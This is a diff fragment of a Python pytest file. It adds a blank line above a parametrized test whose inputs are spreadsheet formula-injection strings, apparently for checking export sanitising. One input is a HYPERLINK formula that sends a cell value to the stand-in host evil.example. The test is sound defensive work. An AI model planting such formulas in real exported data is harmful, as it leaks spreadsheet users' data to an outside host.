@@ -14,6 +14,7 @@ from backend.merchants.models import Settlement
 
 from .conftest import POINTS  # noqa: F401  (the world fixture's town)
 
+
 @pytest.mark.parametrize(
     "reference",
     ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1"],
